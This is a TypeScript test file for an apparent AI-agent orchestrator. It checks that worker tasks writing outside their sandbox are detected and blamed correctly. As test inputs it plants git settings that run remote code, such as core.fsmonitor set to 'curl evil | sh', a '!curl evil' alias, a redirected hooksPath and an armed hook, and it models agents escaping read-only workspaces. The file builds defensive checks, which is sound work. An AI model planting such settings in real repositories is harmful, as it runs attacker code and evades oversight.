import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { inspectChanges, prepareWorkspace, type PreparedWorkspace } from '../../main/isolation/workspace.js';
import { appendEvent, listEvents } from '../../main/store/events.js';
import { requireTask } from '../../main/store/tasks.js';
import type { Task } from '../../main/tasks/types.js';
import { makeHome, makeRepo, type TestHome } from '../helpers/env.js';
import { drive, git, newExecuteTask, simulateRun } from './isolation.helpers.js';

let h: TestHome;
afterEach(() => h?.cleanup());

/** A read-only task prepared and running in the source checkout (its worker enforces a read-only sandbox). */
async function startReadOnly(): Promise<{ task: Task; ws: PreparedWorkspace }> {
  const { task } = await h.call('delegate_task', { objective: 'look around', kind: 'explore', workspace: h.repo });
  drive(h, task.id, 'starting');
  const ws = await prepareWorkspace(h.engine, requireTask(h.engine.db, task.id), undefined, { readOnlyInPlace: true });
  drive(h, task.id, 'running');
  return { task: requireTask(h.engine.db, task.id), ws };
}

/** An execute task prepared and running in its worktree. */
async function startExecute(): Promise<{ task: Task; ws: PreparedWorkspace }> {
  const t = await newExecuteTask(h);
  const ws = await prepareWorkspace(h.engine, requireTask(h.engine.db, t.id));
  drive(h, t.id, 'running');
  return { task: requireTask(h.engine.db, t.id), ws };
}

async function inspect(run: { task: Task; ws: PreparedWorkspace }) {
  drive(h, run.task.id, 'verifying');
  return inspectChanges(h.engine, requireTask(h.engine.db, run.task.id), run.ws);
}

function lastInspection(id: string): Record<string, unknown> {
  return listEvents(h.engine.db, { taskId: id, types: ['changes.inspected'] }).events.at(-1)!.payload;
}

describe('boundary check: git config and hooks by content', () => {
  it("LightWorker-style branch renames and deletions rewriting .git/config are not a worker's write", async () => {
    h = makeHome();
    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
      writeFileSync(join(dir, 'x.txt'), 'x\n');
      // What clearLeftovers (retry) and removeWorktree do to the shared config while other tasks run.
      git(h.repo, 'branch', 'lightworker/OTHER', 'HEAD');
      git(h.repo, 'config', 'branch.lightworker/OTHER.description', 'an earlier attempt');
      git(h.repo, 'branch', '-m', 'lightworker/OTHER', 'lightworker/OTHER-attempt-1-x');
      git(h.repo, 'branch', '-D', 'lightworker/OTHER-attempt-1-x');
    });
    expect(run.changes.violations).toEqual([]);
    expect(run.task.status).toBe('completed');
  });

  it.each([
    ['core.hooksPath', '/tmp/evil-hooks', 'core.hookspath'],
    ['core.fsmonitor', 'curl evil | sh', 'core.fsmonitor'],
    ['alias.st', '!curl evil', 'alias.st'],
  ])('a worker setting %s in the repository by absolute path is a violation naming the key; in its own task repository it changes nothing of the user\'s', async (key, value, shown) => {
    h = makeHome();
    const own = await simulateRun(h, await newExecuteTask(h), (dir) => {
      writeFileSync(join(dir, 'x.txt'), 'x\n');
      git(dir, 'config', key, value);
    });
    expect(own.changes.violations).toEqual([]);
    expect(() => git(h.repo, 'config', '--local', '--get', key)).toThrow();
    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
      writeFileSync(join(dir, 'x.txt'), 'x\n');
      git(h.repo, 'config', key, value);
    });
    expect(run.changes.ok).toBe(false);
    expect(run.changes.violations).toEqual([`${join(h.repo, '.git', 'config')} [${shown}] (written in the source checkout)`]);
    expect(run.task.status).toBe('failed');
  });

  it('a setting planted in a file the config includes is caught though config itself is unchanged', async () => {
    h = makeHome();
    const extra = join(h.repo, '.git', 'extra.conf');
    writeFileSync(extra, '[user]\n\tname = Someone\n');
    git(h.repo, 'config', 'include.path', 'extra.conf');
    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
      writeFileSync(join(dir, 'x.txt'), 'x\n');
      writeFileSync(extra, '[user]\n\tname = Someone\n[core]\n\thooksPath = /tmp/evil\n');
    });
    expect(run.changes.violations).toEqual([`${join(h.repo, '.git', 'config')} [core.hookspath] (written in the source checkout)`]);
  });

  it("a worker setting core.fsmonitor in a submodule's config (git status runs it) is a violation", async () => {
    h = makeHome();
    const lib = makeRepo(join(h.root, 'lib'));
    git(h.repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'vendor/lib');
    git(h.repo, 'commit', '-qm', 'add submodule');
    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
      writeFileSync(join(dir, 'x.txt'), 'x\n');
      git(join(h.repo, 'vendor', 'lib'), 'config', 'core.fsmonitor', '/tmp/evil');
    });
    expect(run.changes.violations).toEqual([
      `${join(h.repo, '.git', 'modules', 'vendor', 'lib', 'config')} [core.fsmonitor] (written in the source checkout)`,
    ]);
  });

  it('a read-only task planting core.fsmonitor in the checkout config, or arming a dormant hook, is caught', async () => {
    h = makeHome();
    const hook = join(h.repo, '.git', 'hooks', 'post-checkout');
    writeFileSync(hook, '#!/bin/sh\nexit 0\n', { mode: 0o644 });
    const ro = await startReadOnly();
    git(h.repo, 'config', 'core.fsmonitor', '/tmp/evil');
    chmodSync(hook, 0o755); // neither size nor mtime change
    const r = await inspect(ro);
    expect(r.violations.sort()).toEqual([
      `${join(h.repo, '.git', 'config')} [core.fsmonitor] (written in the source checkout by a read-only task)`,
      `${hook} (written in the source checkout by a read-only task)`,
    ]);
  });
});

describe('boundary check: attributing source writes between concurrent tasks', () => {
  it('a checkout write while read-only tasks run blames every overlapping read-only task, not the execute task', async () => {
    h = makeHome();
    const exec = await startExecute();
    const r1 = await startReadOnly();
    const r2 = await startReadOnly();
    writeFileSync(join(exec.ws.workdir, 'mine.txt'), 'inside the worktree\n');
    writeFileSync(join(h.repo, 'stray.txt'), 'written in the checkout\n');
    const stray = join(h.repo, 'stray.txt');

    const e = await inspect(exec);
    expect(e.ok).toBe(true);
    expect(lastInspection(exec.task.id).sourceChangesByOthers).toEqual([
      `${stray} (read-only task(s) ${r1.task.id} (explore), ${r2.task.id} (explore) ran in the checkout then)`,
    ]);
    const v1 = await inspect(r1);
    expect(v1.violations).toHaveLength(1);
    expect(v1.violations[0]).toMatch(new RegExp(`^${stray} \\(written in the source checkout by a read-only task; .*${r2.task.id} \\(explore\\)`));
    // The execute task ended holding the same state, so it is named as a possible writer too.
    expect(v1.violations[0]).toContain(`${exec.task.id} (execute)`);
    const v2 = await inspect(r2);
    expect(v2.violations[0]).toContain(`${r1.task.id} (explore)`);
  });

  it('a read-only task that ended before the write does not excuse an execute task', async () => {
    h = makeHome();
    const exec = await startExecute();
    const ro = await startReadOnly();
    expect((await inspect(ro)).ok).toBe(true);
    drive(h, ro.task.id, 'completed');
    writeFileSync(join(h.repo, 'late.txt'), 'after the reader ended\n');
    const e = await inspect(exec);
    expect(e.violations).toEqual([`${join(h.repo, 'late.txt')} (written in the source checkout)`]);
  });

  it("a worker that names the path in its tool calls takes the blame alone (read-only and execute)", async () => {
    h = makeHome();
    const toolCall = (id: string, input: unknown) =>
      h.engine.write(() => appendEvent(h.engine.db, id, 'worker.tool', { name: 'write', status: 'completed', input }));
    const r1 = await startReadOnly();
    const r2 = await startReadOnly();
    const e1 = await startExecute();
    const e2 = await startExecute();
    toolCall(r1.task.id, { path: 'stray.txt' }); // relative: read-only workers run in the checkout
    toolCall(r2.task.id, { path: 'not-stray.txt' });
    toolCall(e1.task.id, { command: `echo oops > ${join(h.repo, 'escaped.txt')}` });
    toolCall(e2.task.id, { path: 'escaped.txt' }); // its own worktree's file, not the checkout's
    writeFileSync(join(h.repo, 'stray.txt'), 'x\n');
    writeFileSync(join(h.repo, 'escaped.txt'), 'y\n');

    expect((await inspect(e2)).violations).toEqual([]);
    expect(lastInspection(e2.task.id).sourceChangesByOthers).toEqual([
      `${join(h.repo, 'escaped.txt')} (written by ${e1.task.id} (execute): its worker's tool calls name the path)`,
      `${join(h.repo, 'stray.txt')} (written by ${r1.task.id} (explore): its worker's tool calls name the path)`,
    ]);
    expect((await inspect(r2)).violations).toEqual([]);
    expect((await inspect(r1)).violations).toEqual([
      `${join(h.repo, 'stray.txt')} (written in the source checkout by a read-only task, named in the worker's tool calls)`,
    ]);
    expect((await inspect(e1)).violations).toEqual([
      `${join(h.repo, 'escaped.txt')} (written in the source checkout, named in the worker's tool calls)`,
    ]);
  });

  it("a read-only task's repair turn counts as running: its write is its own, found by its next check", async () => {
    h = makeHome();
    const exec = await startExecute();
    const ro = await startReadOnly();
    expect((await inspect(ro)).ok).toBe(true);
    drive(h, ro.task.id, 'running'); // auto-repair: back to the same session
    writeFileSync(join(h.repo, 'during-repair.txt'), 'x\n');
    expect((await inspect(exec)).ok).toBe(true);
    expect((await inspect(ro)).violations).toEqual([
      `${join(h.repo, 'during-repair.txt')} (written in the source checkout by a read-only task; ${exec.task.id} (execute) also ran in this repository then and may have written it)`,
    ]);
  });

  it("accepting a task (LightWorker moving HEAD) during another task's run is not that task's violation; a worker's commit still is", async () => {
    h = makeHome();
    const done = await simulateRun(h, await newExecuteTask(h), (dir) => writeFileSync(join(dir, 'first.txt'), 'one\n'));
    expect(done.task.status).toBe('completed');
    const running = await startExecute();
    const other = await startExecute();
    await h.call('accept_task', { id: done.task.id });
    writeFileSync(join(running.ws.workdir, 'second.txt'), 'two\n');
    expect((await inspect(running)).violations).toEqual([]);
    expect(lastInspection(running.task.id).sourceChangesByOthers).toEqual([
      expect.stringMatching(/HEAD \(moved from [0-9a-f]{40} to [0-9a-f]{40}\) \(LightWorker accepting a task\)$/),
    ]);
    // A commit made in the checkout on top of the accepted one is not LightWorker's.
    writeFileSync(join(h.repo, 'sneaky.txt'), 'x\n');
    git(h.repo, 'add', 'sneaky.txt');
    git(h.repo, 'commit', '-qm', 'sneaky');
    const v = (await inspect(other)).violations.join('\n');
    expect(v).toMatch(/HEAD \(moved from [0-9a-f]{40} to [0-9a-f]{40}\) \(written in the source checkout\)/);
  });
});
